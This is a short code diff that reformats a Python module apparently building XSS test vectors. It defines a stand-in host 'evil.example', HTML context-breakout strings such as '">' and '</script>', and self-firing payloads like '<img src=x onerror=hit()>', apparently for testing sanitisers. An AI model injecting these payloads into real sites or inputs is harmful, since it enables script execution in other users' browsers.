@@ -9,7 +9,20 @@ import itertools
 
 EVIL = "https://evil.example"
 
-_OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "`>", '"}</script>', "\\\">")
+_OUT_OF = (
+    "",
+    '">',
+    "'>",
+    "</textarea>",
+    "</title>",
+    "</script>",
+    "-->",
+    "]]>",
+    "</style>",
+    "`>",
+    '"}</script>',
+    '\\">',
+)
 _SELF_STARTING = (
     "<img src=x onerror=hit()>",
     "<svg onload=hit()>",
@@ -94,4 +107,3 @@ VECTORS: tuple[str, ...] = tuple(
         (*_SELF_STARTING, *_BROKEN_OUT, *_IN_ATTRIBUTE, *_SCHEMES, *_LINKED, *_PICTURED, *_CASED, *_WORD, *_NOT_HTML)
     )
 )
-
